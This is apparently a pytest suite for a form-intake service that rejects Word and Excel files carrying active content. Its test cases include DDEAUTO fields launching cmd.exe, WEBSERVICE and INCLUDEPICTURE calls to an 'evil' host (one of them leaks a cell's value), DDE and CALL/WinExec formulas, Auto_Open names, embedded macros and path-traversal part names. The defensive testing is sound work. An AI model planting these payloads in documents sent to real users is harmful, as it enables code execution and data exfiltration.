"""What would run, load or ask elsewhere when somebody opens a form of an issuer is refused by its name."""

import io
import zipfile
from functools import partial
from typing import Any

import docx
import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from gezhi.channels.orders import package, papers
from gezhi.kernel.refusal import Invalid
from gezhi.web.refusals import sentence
from tests.channels.test_orders_papers import KINDS, _said, form_with_link, text_of, with_part, word
from tests.evidence.pictures import photo

VALUES = {"number": "WH1", "text": "第一行\n第二行", "office": "悦海社区", "issuer": "12345热线"}


# ---- what runs, loads or asks elsewhere when somebody opens the paper ----


def changed(data: bytes, name: str, old: str, new: str) -> bytes:
    """The form with one part changed at one place."""
    part = zipfile.ZipFile(io.BytesIO(data)).read(name).decode()
    assert old in part
    return with_part(data, name, part.replace(old, new, 1).encode())


def in_word(xml: str) -> bytes:
    return changed(word("{{单号}}"), "word/document.xml", "<w:sectPr", xml + "<w:sectPr")


def run(xml: str) -> str:
    return f"<w:r>{xml}</w:r>"


BEGIN, SEPARATE, END = (run(f'<w:fldChar w:fldCharType="{one}"/>') for one in ("begin", "separate", "end"))


def said(code: str) -> str:
    return run(f'<w:instrText xml:space="preserve">{code}</w:instrText>')


def field(*codes: str) -> bytes:
    """A field whose code is cut into runs; what is no code stands as it is."""
    inner = "".join(one if one.startswith("<") else said(one) for one in codes)
    return in_word(f"<w:p>{BEGIN}{inner}{SEPARATE}{run('<w:t>x</w:t>')}{END}</w:p>")


def linked(kind: str, target: str, type_: str, *, base: str = KINDS, name: str = "word/x.dat") -> bytes:
    """A form with a part of some kind, whatever its name says."""
    form = with_part(word("{{单号}}"), name, b"<x/>")
    form = changed(
        form,
        "[Content_Types].xml",
        "</Types>",
        f'<Override PartName="/{name}" ContentType="{type_}"/></Types>',
    )
    rel = f'<Relationship Id="rId900" Type="{base}{kind}" Target="{target}"/>'
    return changed(form, "word/_rels/document.xml.rels", "</Relationships>", rel + "</Relationships>")


def sheet(change: Any) -> bytes:
    made = openpyxl.Workbook()
    made.active["A1"] = "{{单号}}"
    change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def cell(formula: str) -> bytes:
    return sheet(lambda made: made.active.__setitem__("B1", formula))


def named(name: str, text: str) -> bytes:
    return sheet(lambda made: made.defined_names.__setitem__(name, DefinedName(name, attr_text=text)))


def ruled(formula: str) -> bytes:
    return sheet(lambda made: made.active.conditional_formatting.add("A1:A9", FormulaRule(formula=[formula])))


def checked(formula: str) -> bytes:
    def add(made: Any) -> None:
        rule = DataValidation(type="list", formula1=formula)
        made.active.add_data_validation(rule)
        rule.add("A1")

    return sheet(add)


OLE = "application/vnd.openxmlformats-officedocument.oleObject"
RUNS: dict[str, tuple[Any, str, str, str]] = {
    **{
        f"field {code.split()[0]}": (field(code), "docx", "field", code.split()[0])
        for code in (
            'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
            "DDE x y",
            'INCLUDEPICTURE "http://evil/p.png" \\d',
            'INCLUDETEXT "http://evil/x.docx"',
            'LINK Excel.Sheet.8 "http://evil/x.xls" a',
            'DATABASE \\d "http://evil"',
            "MACROBUTTON AutoExec x",
            'IMPORT "http://evil/x.gif"',
            "QUOTE 68 68 69",
            "GOTOBUTTON x",
        )
    },
    "a field cut into runs": (field(" DD", "EAU", "TO x y"), "docx", "field", "DDEAUTO"),
    "a field in small letters": (field("dde x y"), "docx", "field", "DDE"),
    "a field that another one begins": (
        field(BEGIN + said("AUTHOR") + SEPARATE + run("<w:t>DDEAUTO</w:t>") + END, " PAGE"),
        "docx",
        "field",
        "{ { } }",
    ),
    "a field that another one completes": (
        field("DAT", BEGIN + said("AUTHOR") + SEPARATE + run("<w:t>ABAS</w:t>") + END, "E x"),
        "docx",
        "field",
        "{ { } }",
    ),
    "a field that nobody closed": (in_word(f"<w:p>{BEGIN}{said('DDE x y')}</w:p>"), "docx", "field", "DDE"),
    "a code outside any field": (in_word(f"<w:p>{said('DDE x y')}</w:p>"), "docx", "field", "DDE"),
    "a simple field": (
        in_word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'),
        "docx",
        "field",
        "INCLUDEPICTURE",
    ),
    "a link to a share": (field('HYPERLINK "\\\\\\\\evil\\\\share"'), "docx", "abroad", ""),
    "a link to a file": (field('HYPERLINK "file:///c:/x.exe"'), "docx", "abroad", ""),
    "a document within": (linked("aFChunk", "x.dat", "text/html"), "docx", "strange_part", "html"),
    "a document within that is called XML": (
        linked("aFChunk", "x.dat", "application/xml"),
        "docx",
        "alt_chunk",
        "",
    ),
    "its place in the text": (in_word("<w:altChunk/>"), "docx", "alt_chunk", ""),
    "macros by another name": (
        linked("vbaProject", "x.dat", "application/vnd.ms-office.vbaProject"),
        "docx",
        "macros",
        "",
    ),
    "macros by their relationship alone": (
        linked(
            "vbaProject",
            "x.dat",
            "application/xml",
            base="http://schemas.microsoft.com/office/2006/relationships/",
        ),
        "docx",
        "macros",
        "",
    ),
    "an object by another name": (linked("oleObject", "x.dat", OLE), "docx", "macros", ""),
    "an object by its relationship alone": (
        linked("oleObject", "x.dat", "application/xml"),
        "docx",
        "macros",
        "",
    ),
    "a control": (linked("control", "x.dat", "application/xml"), "docx", "macros", ""),
    "a book within": (linked("package", "x.dat", "application/xml"), "docx", "macros", ""),
    "a picture that is none": (linked("image", "x.dat", "image/png"), "docx", "macros", ""),
    "a link to a file by relationship": (
        form_with_link("hyperlink", "file://evil/x.exe"),
        "docx",
        "abroad",
        "",
    ),
    "a link to a share by relationship": (
        form_with_link("hyperlink", "\\\\evil\\share"),
        "docx",
        "abroad",
        "",
    ),
    "data of a mailing": (in_word("<w:mailMerge/>"), "docx", "abroad", ""),
    "a part outside": (with_part(word("{{单号}}"), "../../x.xml", b"<a/>"), "docx", "part_names", ""),
    "a part from the root": (with_part(word("{{单号}}"), "/etc/x.xml", b"<a/>"), "docx", "part_names", ""),
    "a part with a backslash": (
        with_part(word("{{单号}}"), "word\\x.xml", b"<a/>"),
        "docx",
        "part_names",
        "",
    ),
    "a target outside": (
        linked("header", "../../../x.xml", "application/xml"),
        "docx",
        "part_names",
        "",
    ),
    **{
        f"formula {formula}": (cell("=" + formula), "xlsx", "formula", what)
        for formula, what in (
            ('WEBSERVICE("http://evil/?"&A1)', "WEBSERVICE"),
            ('_xlfn.WEBSERVICE("http://evil")', "_xlfn.WEBSERVICE"),
            ('HYPERLINK("http://evil/?"&A2,"x")', "HYPERLINK"),
            ('IMAGE("http://evil")', "IMAGE"),
            ("cmd|'/c calc'!A0", "cmd|'/c calc'!A0"),
            ("'http://evil/[x.xlsx]S'!A1", "'http://evil/[x.xlsx]S'!A1"),
            ("[1]S!A1", "[1]S!A1"),
            ("'C:\\x\\[b.xlsx]S'!A1", "'C:\\x\\[b.xlsx]S'!A1"),
            ("b.xlsx!A1", "b.xlsx!A1"),
            ('RTD("x",,"y")', "RTD"),
            ('CALL("kernel32","WinExec","JCJ","calc")', "CALL"),
            ('IF(1,EXEC("calc"))', "EXEC"),
        )
    },
    "a name that begins by itself": (named("Auto_Open", "Sheet!$A$1"), "xlsx", "macros", ""),
    "a name that asks a program": (named("x", "cmd|'/c calc'!A0"), "xlsx", "formula", "cmd|'/c calc'!A0"),
    "a rule that fetches": (ruled('WEBSERVICE("http://evil")=1'), "xlsx", "formula", "WEBSERVICE"),
    "a check that asks a program": (checked("cmd|'/c calc'!A0"), "xlsx", "formula", "cmd|'/c calc'!A0"),
}


@pytest.mark.parametrize("name", RUNS)
def test_what_would_run_or_load_when_it_is_opened_is_refused_by_its_name(name: str) -> None:
    data, suffix, code, what = RUNS[name]
    deeds = (partial(papers.judged, data, suffix), partial(papers.filled, data, suffix, VALUES))
    for deed in deeds:  # one that was kept before, too
        with pytest.raises(Invalid) as refused:
            deed()
        assert (refused.value.code, refused.value.details.get("what", "")) == (code, what)
    assert what in sentence(refused.value)


@pytest.mark.parametrize(
    "name", ["field DDEAUTO", "formula [1]S!A1", "a document within", "its place in the text"]
)
def test_twin_without_the_lists_it_would_be_kept_and_handed_out(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(package, "judge_part", lambda name, kind, part: None)
    monkeypatch.setattr(package, "_refuse_strange", lambda what: None)
    data, suffix, *_why = RUNS[name]
    papers.judged(data, suffix)


TOC = (r" TOC \o ", r" HYPERLINK \l &quot;_Toc1&quot; ", r"PAGEREF _Toc1 \h")


def rich_word() -> bytes:
    """As offices write them: page numbers, a mailing's field, a table of contents, a picture, a footnote's reference, a link."""
    document = docx.Document()
    document.add_paragraph("{{单号}}")
    document.add_picture(io.BytesIO(photo()))
    document.sections[0].footer.paragraphs[0].text = "第 页"
    out = io.BytesIO()
    document.save(out)
    contents, entry, page = (said(code) for code in TOC)
    toc = f"<w:p>{BEGIN}{contents}{SEPARATE}{BEGIN}{entry}{SEPARATE}{BEGIN}{page}{SEPARATE}{END}{END}{END}</w:p>"
    codes = (
        "PAGE \\* MERGEFORMAT",
        "NUMPAGES",
        'DATE \\@ "yyyy年M月d日"',
        "MERGEFIELD 姓名",
        "SEQ 表",
        "= 1 + 2",
        "eq \\o\\ac(○,1)",
    )
    more = "".join(f"<w:p>{BEGIN}{said(code)}{SEPARATE}{END}</w:p>" for code in codes)
    sum_ = f"<w:p>{BEGIN}{said('= ')}{BEGIN}{said('NUMPAGES')}{END}{said(' - 1')}{SEPARATE}{END}</w:p>"
    simple = '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>'
    form = changed(out.getvalue(), "word/document.xml", "<w:sectPr", toc + more + sum_ + simple + "<w:sectPr")
    # as LibreOffice heads its metadata
    return changed(
        form,
        "_rels/.rels",
        "package/2006/relationships/metadata/core",
        "officedocument/2006/relationships/metadata/core",
    )


def rich_book() -> bytes:
    """A form with sums, a list to choose from, colours by rule, names, a note, a printer's own part, a link and two sheets."""
    made = openpyxl.Workbook()
    first, second = made.active, made.create_sheet("名单 一")
    first.append(["{{单号}}", "=SUM(C1:C9)", '=IF(\'名单 一\'!A1="是",TODAY(),"")', '=ROUND(B1/2,1)&"元"'])
    first["A9"].comment = Comment("说明", "办公室")
    first["A9"].hyperlink = "https://12345.gov.cn/"
    second["A1"] = "是"
    first.conditional_formatting.add("A1:A9", FormulaRule(formula=['AND($A1<>"",ISBLANK($B1))']))
    for formula in ('"是,否"', "'名单 一'!$A$1:$A$3"):
        rule = DataValidation(type="list", formula1=formula)
        first.add_data_validation(rule)
        rule.add("D1")
    made.defined_names["清单"] = DefinedName("清单", attr_text="'名单 一'!$A$1:$A$9")
    first.print_title_rows = "1:1"
    out = io.BytesIO()
    made.save(out)
    form = with_part(out.getvalue(), "xl/printerSettings/printerSettings1.bin", b"d\0e\0v\0")
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"
    return changed(
        form, "[Content_Types].xml", "<Default", f'<Default Extension="bin" ContentType="{kind}"/><Default'
    )


@pytest.mark.parametrize(("suffix", "made"), [("docx", rich_word), ("xlsx", rich_book)])
def test_what_forms_of_offices_have_in_them_may_stay(suffix: str, made: Any) -> None:
    papers.judged(made(), suffix)
    filled = papers.filled(made(), suffix, VALUES)
    assert "WH1" in (text_of(filled) if suffix == "docx" else _said(filled))
